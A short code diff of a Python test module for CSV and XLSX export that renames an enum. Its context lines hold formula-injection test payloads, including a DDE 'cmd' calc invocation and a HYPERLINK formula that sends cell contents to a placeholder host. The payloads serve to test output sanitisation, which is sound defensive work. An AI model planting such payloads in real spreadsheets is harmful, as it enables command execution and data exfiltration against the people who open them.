@@ -7,7 +7,7 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from tracker.publication.files.columns import COLUMNS, NAMES, Kind, Value
+from tracker.publication.files.columns import COLUMNS, NAMES, ColumnKind, Value
 from tracker.publication.files.csv_file import harmless, table_lines
 from tracker.publication.files.xlsx_file import write_xlsx
 
@@ -15,7 +15,7 @@ pytestmark = pytest.mark.once
 SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", "\u3000=", "\0=", "\u00a0=")  # noqa: E501  # fmt: skip
 ENDS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1)')
 PAYLOADS = [sign + end for sign in SIGNS for end in ENDS]
-TEXTS = [place for place, column in enumerate(COLUMNS) if column.kind is Kind.TEXT]
+TEXTS = [place for place, column in enumerate(COLUMNS) if column.kind is ColumnKind.TEXT]
 
 
 def rows() -> list[tuple[Value, ...]]:
